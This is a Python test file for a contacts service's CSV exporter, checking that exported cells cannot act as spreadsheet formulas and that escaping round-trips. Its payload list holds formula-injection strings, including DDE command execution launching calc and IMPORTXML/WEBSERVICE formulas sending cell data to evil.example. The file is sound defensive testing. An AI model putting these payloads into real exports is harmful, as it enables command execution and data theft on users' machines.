"""What is exported can be opened in a spreadsheet without anything being run, and read back."""

import csv
import io
import re
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from addin_service.addresses import NotAnAddress, ascii_domain, parse
from addin_service.contacts.columns import clean, on_one_line
from addin_service.contacts.csv_in import read_csv
from addin_service.contacts.csv_out import write_csv, write_table
from addin_service.contacts.formulas import marked, unmarked
from addin_service.contacts.rows import Row

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|' /C calc'!A0",
    "=@SUM(1+1)",
    "=-1",
    "=\n1+1",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "++1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@chambers.example",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "\rplain",
    " =1+1",
    "   +1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{IDEOGRAPHIC SPACE}=1+1",
    "\n=1+1",
    '"=1+1',
    '""=1+1"',
    "'=1+1",
    "''=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
    "\N{MINUS SIGN}1+1",
    "Bo,=1+1",
    "Bo;=1+1",
    'Bo";=1+1;"',
    "Bo\t=1+1",
    "Bo\r\n=1+1",
    "Bo\n@SUM(1)",
    "Bo|=1+1",
    "Bo, -1",
]

FORMULA = tuple("=+-@\t\r＝＋－＠\N{MINUS SIGN}")


def exported(row: Row) -> str:
    stream = io.StringIO(newline="")
    write_csv([row], stream)
    return stream.getvalue()


def reads_as_formula(cell: str) -> bool:
    """A spreadsheet that is as eager as can be: it skips blanks and quotes, but no apostrophe."""
    return cell.lstrip(' "\n\N{NO-BREAK SPACE}\N{IDEOGRAPHIC SPACE}').startswith(FORMULA)


@pytest.mark.parametrize("column", ["name", "organisation", "reason", "owner"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_an_export_is_a_formula(payload: str, column: str) -> None:
    row = Row(line=0, entry="a@x.example", address=parse("a@x.example"), **{column: payload})  # type: ignore[arg-type]
    text = exported(row)
    for cells in csv.reader(io.StringIO(text, newline="")):
        assert not any(reads_as_formula(cell) for cell in cells)
    (back,) = read_csv(io.BytesIO(text.encode()))
    assert getattr(back, column) == on_one_line(payload)


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_separator_makes_a_formula_of_an_export(payload: str, separator: str) -> None:
    stream = io.StringIO(newline="")
    write_table(("one", "two"), [(payload, payload)], stream)
    for cells in csv.reader(io.StringIO(stream.getvalue(), newline=""), delimiter=separator):
        # With a foreign separator the end of the line can fall inside of quotes.
        assert not any(reads_as_formula(cell.rstrip("\r\n")) for cell in cells)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_mark_comes_off_again(payload: str) -> None:
    assert marked(payload) != payload
    assert unmarked(marked(payload)) == payload


@pytest.mark.parametrize(
    "cell",
    ["", "Priya Tann", "O'Hara", "'quoted'", "Smith-Jones", "a@x.example", "a=b", "Ek, Bo", "1-2"],
)
def test_an_ordinary_cell_is_not_marked(cell: str) -> None:
    assert marked(cell) == cell
    assert unmarked(cell) == cell


@settings(max_examples=1000)
@given(st.text() | st.text("'\"=+-@ \t\r\n,;|a＝", max_size=12))
def test_a_mark_comes_off_whatever_the_cell(cell: str) -> None:
    assert unmarked(marked(cell)) == cell
    for part in re.split(r"[,;|\n]", marked(cell)):
        assert not reads_as_formula(part)


WORDS = st.text(max_size=30).map(clean) | st.sampled_from([clean(p) for p in PAYLOADS])


PERSONS = st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:-]{0,63}", fullmatch=True) | st.just("")


@st.composite
def a_row(draw: st.DrawFn) -> Row:
    local = draw(st.text("ab.'=+-_é", min_size=1, max_size=10))
    domain = draw(st.sampled_from(["x.example", "bücher.example", "a-b.co.example"]))
    try:
        address = parse(f"{local}@{domain}") if draw(st.booleans()) else None
    except NotAnAddress:
        address = None
    return Row(
        line=2,
        entry=address.key if address else f"@{ascii_domain(domain)}",
        address=address,
        name=draw(WORDS),
        organisation=draw(WORDS),
        status=draw(st.sampled_from(["known", "blocked"])),
        reason=draw(WORDS),
        expires=draw(st.none() | st.dates(date(2000, 1, 1))),
        owner=draw(WORDS),
        person=draw(PERSONS) if address else "",
    )


@settings(max_examples=500)
@given(a_row())
def test_an_export_reads_back_as_the_same_entry(row: Row) -> None:
    assert list(read_csv(io.BytesIO(exported(row).encode()))) == [row]
    assert list(read_csv(io.BytesIO(exported(row).encode("utf-16")))) == [row]
